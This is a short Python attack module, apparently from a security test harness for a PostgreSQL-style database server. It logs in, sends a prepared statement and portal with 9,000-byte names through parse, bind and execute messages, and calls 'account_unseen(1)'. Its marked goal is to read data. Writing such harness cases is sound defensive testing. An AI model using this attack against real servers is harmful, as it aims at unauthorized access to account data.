"""Gives a statement and a portal very long names."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        name = b"n" * 9_000
        run = bind(name, name + b"p") + execute(name + b"p")
        return ask(client, parse(b"SELECT account_unseen(1)", name), run, SYNC)
